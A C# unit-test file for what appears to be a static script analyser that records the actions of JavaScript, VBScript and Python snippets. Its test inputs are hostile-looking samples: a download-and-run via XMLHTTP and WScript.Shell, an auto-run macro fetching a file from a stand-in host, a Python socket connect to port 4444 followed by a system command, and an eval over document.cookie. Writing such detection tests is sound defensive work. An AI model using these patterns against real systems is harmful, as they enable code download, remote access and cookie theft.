using Redoubt.Scripts.Acts;
using Redoubt.Scripts.Clearing;

namespace Redoubt.Scripts.Tests.Languages;

/// <summary>What scripts of JavaScript, Visual Basic and Python do, in order.</summary>
public sealed class OtherLanguageActsTests
{
    [Fact]
    public void Jscript_downloads_and_runs()
    {
        var acts = Acts(ScriptLanguage.JavaScript, "var h = new ActiveXObject('MSXML2.XMLHTTP'); h.open('GET', 'http://h.test/' + 'a', false); h.send(); new ActiveXObject('WScript.Shell').Run('calc.exe');");
        acts.Select(act => act.Command).Take(5).ShouldBe(["new com msxml2.xmlhttp", ".open", ".send", "new com wscript.shell", ".run"]);
        acts[1].Arguments[1].ShouldBe("http://h.test/a");
        acts[4].Target.ShouldBe("wscript.shell");
        acts[4].Runs.ShouldBe(2);
    }

    [Fact]
    public void A_condition_is_kept()
    {
        var acts = Acts(ScriptLanguage.VisualBasic, "Set s = CreateObject(\"WScript.Shell\")\nIf s.RegRead(\"HKLM\\x\") = 1 Then\n  s.RegWrite \"HKCU\\a\", \"b\"\nEnd If");
        acts.Single(act => act.Command == ".regwrite").Condition.ShouldBe("if s.RegRead(\"HKLM\\x\") = 1");
    }

    [Fact]
    public void A_macro_begins_at_its_entry()
    {
        var acts = Acts(ScriptLanguage.VisualBasic, "Private Declare Function U Lib \"urlmon\" Alias \"URLDownloadToFileA\" (a, b)\nSub Document_Open()\n  U 0, \"http://h.test/a\"\nEnd Sub\nSub Never()\n  Kill \"a\"\nEnd Sub");
        acts.Single(act => act.Command == "urldownloadtofilea").Defined.ShouldBeFalse();
        acts.Single(act => act.Command == "kill").Defined.ShouldBeTrue();
    }

    [Fact]
    public void Files_that_are_written_are_kept()
    {
        var analysis = new Analysis(AnalysisLimits.Standard, default);
        analysis.Open("Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"c:\\a.txt\")\nf.WriteLine \"x\"", new ScriptHints(ScriptLanguage.VisualBasic));
        analysis.Files.TryRead("c:\\a.txt", out var text).ShouldBeTrue();
        text.ShouldBe("x\r\n");
    }

    [Fact]
    public void Python_connects_and_runs()
    {
        var acts = Acts(ScriptLanguage.Python, "import socket as q, os\ns = q.socket()\ns.connect(('10.0.0.1', 4444))\nos.system('i' + 'd')");
        acts.Select(act => act.Command).Take(5).ShouldBe(["import socket", "import os", "socket.socket", ".connect", "os.system"]);
        acts[3].Arguments.ShouldBe(["10.0.0.1", "4444"]);
        acts[3].Target.ShouldBe("socket.socket");
        acts[4].Arguments.ShouldBe(["id"]);
    }

    [Fact]
    public void What_eval_runs_may_be_unknown()
    {
        var analysis = new Analysis(AnalysisLimits.Standard, default);
        analysis.Open("eval('a' + document.cookie)", new ScriptHints(ScriptLanguage.JavaScript));
        analysis.Unresolved.ShouldNotBeEmpty();
    }

    private static List<Act> Acts(ScriptLanguage language, string text)
    {
        var analysis = new Analysis(AnalysisLimits.Standard, default);
        analysis.Open(text, new ScriptHints(language));
        return analysis.Acts;
    }
}
